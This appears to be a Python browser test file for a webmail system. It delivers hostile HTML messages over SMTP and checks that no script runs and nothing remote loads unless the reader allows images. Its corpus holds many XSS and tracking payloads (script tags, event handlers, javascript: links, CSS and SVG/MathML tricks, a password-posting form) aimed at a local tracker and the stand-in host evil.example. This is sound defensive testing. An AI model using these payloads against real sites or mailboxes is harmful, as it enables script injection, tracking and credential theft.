"""Hostile HTML mail: no script runs and nothing remote loads unless the reader allows images.

The corpus arrives the way mail does: over SMTP, through our real MX listener (the listener of
``runmail``, started on 127.0.0.1 as tests/mailcore/smtp does, with a DNS server of the test's
own), in several MIME shapes (plain HTML, quoted-printable, base64, multipart/alternative,
multipart/related, a declared charset). A "tracker" HTTP server on 127.0.0.1 stands for the
outside internet: every vector points at it, and it counts what reaches it. The page's
requests, console and dialogs are watched as well.
"""

from __future__ import annotations

import base64
import quopri
import smtplib
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import expect

from mailcore.models import Account, Message
from mailcore.smtp.protocol import Limits, Role
from tests.mailcore.smtp.conftest import HOST, DnsServer, DnsZone, ServerThread

from .conftest import sign_in
from .test_journeys import BASE_URL_WARNING

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True), pytest.mark.filterwarnings(BASE_URL_WARNING)]

GIF = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")


class _Tracker(BaseHTTPRequestHandler):
    hits: list[str]

    def do_GET(self) -> None:  # noqa: N802 - http.server's naming
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.send_header("Content-Length", str(len(GIF)))
        self.end_headers()
        self.wfile.write(GIF)

    def log_message(self, format: str, *args: Any) -> None:
        return


@pytest.fixture
def tracker() -> Iterator[tuple[str, list[str]]]:
    hits: list[str] = []
    handler = type("Handler", (_Tracker,), {"hits": hits})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


@pytest.fixture
def mx_port(settings: Any) -> Iterator[int]:
    """Our SMTP MX listener on 127.0.0.1, with a DNS server of its own (SPF/DKIM/DMARC lookups
    never leave the machine)."""
    dns_server = DnsServer(DnsZone())
    dns_server.start()
    settings.DNS_NAMESERVERS = [HOST]
    settings.DNS_PORT = dns_server.port
    servers = ServerThread()
    try:
        listener = servers.start(Role.MX, limits=Limits(), proxy_protocol=False)
        yield listener.port
    finally:
        servers.stop()
        dns_server.stop()


def smtp_deliver(port: int, raw: bytes, to: str = "alice@a.test") -> None:
    with smtplib.SMTP(HOST, port, local_hostname="mail.evil.example", timeout=30) as client:
        refused = client.sendmail("mallory@evil.example", [to], raw)
        assert not refused


def corpus(t: str) -> str:
    return f"""
<html><head>
<meta http-equiv="refresh" content="0;url={t}/meta-refresh">
<base href="{t}/base/">
<link rel="stylesheet" href="{t}/link.css">
<style>@import url({t}/import.css); body {{ background: url({t}/style-bg.png) }}</style>
<script>console.log("PWNED script"); fetch("{t}/script-fetch"); alert(1)</script>
</head><body onload="console.log('PWNED onload')">
<p id="content">Quarterly update</p>
<img src="{t}/pixel.gif" alt="tracker">
<img src="x" onerror="console.log('PWNED onerror'); new Image().src='{t}/onerror'">
<img srcset="{t}/srcset.gif 1x">
<a href="javascript:console.log('PWNED link')">click me</a>
<div style="background-image: url('{t}/inline-style.png')">styled</div>
<div style="width: expression(alert(1))">ie</div>
<svg onload="console.log('PWNED svg')"><image href="{t}/svg-image.png"/><script>console.log("PWNED svg script")</script></svg>
<form action="{t}/form"><input name="password"><button>Go</button></form>
<iframe src="{t}/iframe"></iframe>
<iframe srcdoc="<script>console.log('PWNED srcdoc')</script><img src='{t}/srcdoc.png'>"></iframe>
<object data="{t}/object"></object><embed src="{t}/embed">
<video poster="{t}/poster.png" src="{t}/video.mp4"></video>
<audio src="{t}/audio.mp3" autoplay></audio>
<table background="{t}/table-bg.png"><tr><td>cell</td></tr></table>
<math><mtext><script>console.log("PWNED math")</script></mtext></math>
</body></html>"""


def _hostile_mail(t: str) -> bytes:
    html = corpus(t).replace("\n", "\r\n")
    return (
        "From: Mallory <mallory@evil.example>\r\nTo: alice@a.test\r\nSubject: Quarterly update\r\n"
        "Date: Sat, 28 Nov 2026 12:00:00 +0000\r\nMessage-ID: <hostile@evil.example>\r\nMIME-Version: 1.0\r\n"
        "Content-Type: text/html; charset=utf-8\r\n\r\n" + html + "\r\n"
    ).encode()


# One message per family of vectors, each in its own MIME shape; the marker text is what the
# reader must see, the rest must neither run nor fetch.
def vectors(t: str) -> dict[str, str]:
    return {
        "head tricks": f'<meta http-equiv="refresh" content="0;url={t}/refresh"><base href="{t}/b/">'
                       f'<link rel="stylesheet" href="{t}/l.css"><link rel="prefetch" href="{t}/prefetch">'
                       f'<link rel="dns-prefetch" href="{t}/dns"><p><a href="rel.html">relative</a></p>',
        "script vectors": '<script>console.log("PWNED s");alert(1)</script>'
                          '<p onclick="console.log(\'PWNED c\')" onmouseover="alert(2)">hover</p>'
                          '<body onload="console.log(\'PWNED l\')"><details open ontoggle="console.log(\'PWNED t\')">'
                          '<summary>x</summary></details><marquee onstart="console.log(\'PWNED m\')">m</marquee>'
                          '<a href="javascript:console.log(\'PWNED j\')">js</a><a href="JaVaScRiPt&#58;alert(3)">js2</a>'
                          '<a href="data:text/html,<script>alert(4)</script>">data</a>',
        "image vectors": f'<img src="{t}/pixel.gif"><img srcset="{t}/srcset.gif 1x"><img src="//{t[7:]}/proto.gif">'
                         f'<picture><source srcset="{t}/source.gif"></picture><input type="image" src="{t}/input.gif">'
                         f'<img src="x" onerror="new Image().src=\'{t}/onerror\'">'
                         f'<table background="{t}/tbg.gif"><tr><td background="{t}/tdbg.gif">c</td></tr></table>'
                         f'<body background="{t}/bodybg.gif">',
        "css vectors": f'<style>@import url({t}/imp.css); p {{ background: url({t}/bg.png) }}'
                       f'@font-face {{ font-family: x; src: url({t}/font.woff) }}</style>'
                       f'<div style="background-image:url(&#39;{t}/inline.png&#39;)">a</div>'
                       f'<div style="background:\\75 rl({t}/escaped.png)">b</div>'
                       f'<div style="background-image:image-set(&quot;{t}/set.png&quot; 1x)">d</div>'
                       f'<div style="background:&#117;rl({t}/entity.png)">e</div>'
                       f'<div style="behavior:url({t}/x.htc);width:expression(alert(5))">c</div>'
                       f'<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">overlay</div>',
        "embedded content": f'<iframe src="{t}/iframe"></iframe><iframe srcdoc="<script>alert(6)</script>"></iframe>'
                            f'<object data="{t}/object"></object><embed src="{t}/embed"><applet code="{t}/a"></applet>'
                            f'<video poster="{t}/poster.png" src="{t}/v.mp4" autoplay></video>'
                            f'<audio src="{t}/a.mp3" autoplay></audio><track src="{t}/track.vtt">'
                            f'<frameset><frame src="{t}/frame"></frameset>',
        "forms": f'<form action="{t}/steal" method="post"><input name="password" type="password">'
                 f'<button formaction="{t}/formaction">Log in</button></form>'
                 f'<isindex action="{t}/isindex"><textarea>{t}/textarea</textarea>',
        "svg and math": f'<svg onload="alert(7)"><image href="{t}/svgimg.png"/><use href="{t}/use.svg#x"/>'
                        f'<script>alert(8)</script><animate onbegin="alert(9)" attributeName="x" dur="1s"/>'
                        f'<foreignObject><img src="{t}/fo.gif"></foreignObject></svg>'
                        f'<math><mtext><table><mglyph><style><img src="{t}/mxss.gif" onerror="alert(10)">'
                        f'</style></mglyph></table></mtext></math>',
        "parser confusion": f'<!--<img src="--><img src="{t}/comment.gif" onerror=alert(11)//">'
                            f'<noscript><p title="</noscript><img src={t}/noscript.gif onerror=alert(12)>">'
                            f'</noscript><xmp><img src="{t}/xmp.gif"></xmp>'
                            f'<title><img src="{t}/title.gif"></title><![CDATA[<img src="{t}/cdata.gif">]]>',
    }


def _shaped(name: str, html: str, shape: str) -> bytes:
    """A message whose HTML body is ``html`` wrapped as ``shape`` (the MIME variations)."""
    subject = f"Hostile {name}"
    head = (f"From: Mallory <mallory@evil.example>\r\nTo: alice@a.test\r\nSubject: {subject}\r\n"
            f"Date: Sat, 28 Nov 2026 12:00:00 +0000\r\nMessage-ID: <{name.replace(' ', '-')}@evil.example>\r\n"
            "MIME-Version: 1.0\r\n")
    page = f"<html><body><p>Marker {name}</p>{html}</body></html>"
    if shape == "qp":
        encoded = quopri.encodestring(page.encode()).decode().replace("\n", "\r\n")
        return (head + "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
                + encoded + "\r\n").encode()
    if shape == "base64":
        encoded = base64.encodebytes(page.encode()).decode().replace("\n", "\r\n")
        return (head + "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                + encoded).encode()
    if shape == "alternative":
        return (head + 'Content-Type: multipart/alternative; boundary="b"\r\n\r\n--b\r\n'
                "Content-Type: text/plain; charset=utf-8\r\n\r\nplain\r\n--b\r\n"
                "Content-Type: text/html; charset=utf-8\r\n\r\n" + page + "\r\n--b--\r\n").encode()
    if shape == "related":
        return (head + 'Content-Type: multipart/related; boundary="r"\r\n\r\n--r\r\n'
                "Content-Type: text/html; charset=utf-8\r\n\r\n" + page + '<img src="cid:pic@evil.example">'
                "\r\n--r\r\nContent-Type: image/gif\r\nContent-ID: <pic@evil.example>\r\n"
                "Content-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(GIF).decode() + "\r\n--r--\r\n").encode()
    if shape == "latin1":
        return (head + "Content-Type: text/html; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\n").encode() \
            + page.encode("latin-1", "replace") + b"\r\n"
    return (head + "Content-Type: text/html; charset=utf-8\r\n\r\n" + page + "\r\n").encode()


SHAPES = ["plain", "qp", "base64", "alternative", "related", "latin1", "qp", "base64"]


def test_every_family_of_the_corpus_delivered_over_smtp_is_inert(
    page: Any, web_server: str, people: dict[str, Account], tracker: tuple[str, list[str]], mx_port: int
) -> None:
    origin, hits = tracker
    families = vectors(origin)
    for (name, html), shape in zip(families.items(), SHAPES, strict=True):
        smtp_deliver(mx_port, _shaped(name, html, shape))
    assert Message.objects.filter(account=people["alice"], subject__startswith="Hostile").count() == len(families)
    console: list[str] = []
    requests: list[str] = []
    dialogs: list[str] = []
    page.on("console", lambda m: console.append(m.text))
    page.on("request", lambda r: requests.append(r.url))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    sign_in(page, web_server, "alice@a.test")
    inbox_url = page.url
    for name in families:
        page.goto(inbox_url)
        page.get_by_role("link", name=f"Hostile {name}").click()
        frame = page.frame_locator("iframe.body")
        expect(frame.get_by_text(f"Marker {name}")).to_be_visible()
        page.wait_for_timeout(400)
        assert not [c for c in console if "PWNED" in c], (name, console)
        assert not dialogs, (name, dialogs)
        assert hits == [], (name, hits)
        assert not [u for u in requests if u.startswith(origin) or "evil.example" in u], name
        assert page.url.startswith(web_server), name
    # Our own cid: image of the related message did load, through our inline view.
    assert any("/inline/" in u for u in requests)
    # With images allowed, plain <img> pictures load, and nothing else of any family does.
    for name in families:
        page.goto(inbox_url)
        page.get_by_role("link", name=f"Hostile {name}").click()
        page.get_by_role("link", name="Show images").or_(page.locator("h1")).first.wait_for()
        page.goto(page.url + ("&" if "?" in page.url else "?") + "images=1")
        expect(page.frame_locator("iframe.body").get_by_text(f"Marker {name}")).to_be_visible()
        page.wait_for_timeout(400)
        assert not [c for c in console if "PWNED" in c] and not dialogs, name
    # comment.gif and noscript.gif are real <img> elements once parsed (their onerror handlers
    # gone); srcset, <picture>, <input type=image>, background attributes, CSS, SVG and MathML
    # images, and images inside <xmp>, <title> or CDATA never load.
    assert set(hits) == {"/pixel.gif", "/proto.gif", "/comment.gif", "/noscript.gif"}, hits


def test_hostile_html_runs_no_script_and_loads_nothing_remote(
    page: Any, web_server: str, people: dict[str, Account], tracker: tuple[str, list[str]], mx_port: int
) -> None:
    origin, hits = tracker
    smtp_deliver(mx_port, _hostile_mail(origin))
    console: list[str] = []
    requests: list[str] = []
    dialogs: list[str] = []
    page.on("console", lambda m: console.append(m.text))
    page.on("request", lambda r: requests.append(r.url))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    sign_in(page, web_server, "alice@a.test")
    page.get_by_role("link", name="Quarterly update").click()
    frame = page.frame_locator("iframe.body")
    expect(frame.get_by_text("Quarterly update")).to_be_visible()
    page.wait_for_timeout(1500)
    assert not [c for c in console if "PWNED" in c]
    assert not dialogs
    assert hits == []
    assert not [u for u in requests if u.startswith(origin)]
    assert page.url.startswith(web_server)

    # The reader allows images: now (and only now) the tracker pixel loads; still no script.
    page.get_by_role("link", name="Show images").click()
    expect(frame.get_by_text("Quarterly update")).to_be_visible()
    page.wait_for_timeout(1500)
    assert "/pixel.gif" in hits
    assert set(hits) <= {"/pixel.gif"}
    assert not [c for c in console if "PWNED" in c] and not dialogs
